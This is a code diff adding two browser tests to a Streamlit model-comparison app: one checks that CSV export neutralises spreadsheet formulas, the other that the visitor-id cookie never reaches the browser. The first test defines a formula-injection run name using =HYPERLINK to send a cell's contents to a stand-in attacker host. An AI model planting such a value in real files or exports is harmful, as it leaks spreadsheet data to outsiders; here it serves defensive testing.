@@ -92,3 +92,84 @@ def test_baseline_and_sweep_results_appear_without_navigating(streamlit_server, 
     page.screenshot(path=str(output_dir / "compare-sweep-results.png"), full_page=True)
     page.get_by_role("tab", name="Runs").click()
     assert _runs_caption(page)[1] == before[1] + 3
+
+
+HOSTILE_NAME = '=HYPERLINK("https://evil.example/?q="&A1, "click")'
+
+
+def test_the_runs_table_downloads_as_csv_with_formulas_neutralised(
+    server_with_runs, server_runs_dir, page, mnist
+):
+    """Before, the table's own "Download as CSV" wrote a name like =HYPERLINK(...) as is."""
+    import csv
+    import io
+
+    store = RunStore(server_runs_dir)
+    config = TrainingConfig(hidden_layers=(8,), epochs=1, train_size=300)
+    run_id = save_training_result(store, train_model(config, mnist), mnist, name=HOSTILE_NAME)
+    try:
+        page.goto(f"{server_with_runs}/compare")
+        wait_for_app(page)
+        table = page.locator('.st-key-compare_table, [data-testid="stDataFrame"]').first
+        table.hover()
+        # Streamlit's own export (written in the browser, past core.csv_export) is off.
+        assert page.get_by_role("button", name="Download as CSV").count() == 0
+        with page.expect_download() as download_info:
+            page.get_by_role("button", name="Download the table (CSV)").click()
+        rows = list(csv.DictReader(io.StringIO(Path(download_info.value.path()).read_text())))
+        names = [row["Name"] for row in rows]
+        assert "'" + HOSTILE_NAME in names and HOSTILE_NAME not in names
+        assert all(float(row["Test accuracy"]) > 0 for row in rows)
+        assert "owner" not in rows[0] and "id" not in rows[0]
+    finally:
+        store.delete_run(run_id, missing_ok=True)
+
+
+def test_no_page_sends_the_visitor_id_to_the_browser(browser, tmp_path, mnist, output_dir):
+    """The visitor id is an HttpOnly cookie: anyone who reads it becomes that visitor.
+    Before, Compare sent every run's owner (that id) to the browser with the runs table;
+    here every frame the server sends on every page and tab is searched for it."""
+    import ui
+    from core.visitors import COOKIE_NAME
+    from tests.conftest import start_streamlit, stop_streamlit
+
+    process, base_url, _ = start_streamlit(tmp_path)
+    context = browser.new_context(viewport={"width": 1400, "height": 1000})
+    context.set_default_timeout(60_000)
+    page = context.new_page()
+    frames: list[bytes] = []
+    page.on(
+        "websocket",
+        lambda socket: socket.on(
+            "framereceived",
+            lambda payload: frames.append(
+                payload if isinstance(payload, bytes) else payload.encode()
+            ),
+        ),
+    )
+    try:
+        page.goto(base_url)
+        wait_for_app(page)
+        visitor = {cookie["name"]: cookie["value"] for cookie in context.cookies()}[COOKIE_NAME]
+        store = RunStore(tmp_path / "runs")
+        config = TrainingConfig(hidden_layers=(8,), epochs=1, train_size=300)
+        result = train_model(config, mnist)
+        save_training_result(store, result, mnist, owner=visitor, name="leak check net")
+        page.goto(f"{base_url}/compare")
+        wait_for_app(page)
+        page.get_by_role("button", name="Use as current model").click()
+        wait_for_app(page)
+        for spec in ui.PAGES:
+            page.goto(f"{base_url}/{'' if spec.default else ui.url_path(spec)}")
+            wait_for_app(page)
+            tabs = page.locator('[data-testid="stMain"] [role="tab"]')
+            for index in range(tabs.count()):
+                tabs.nth(index).click()
+                wait_for_app(page)
+            assert page_errors(page) == [], spec.title
+        assert any(b"leak check net" in frame for frame in frames)  # the frames were read
+        leaks = [frame[:200] for frame in frames if visitor.encode() in frame]
+        assert leaks == []
+    finally:
+        context.close()
+        stop_streamlit(process)
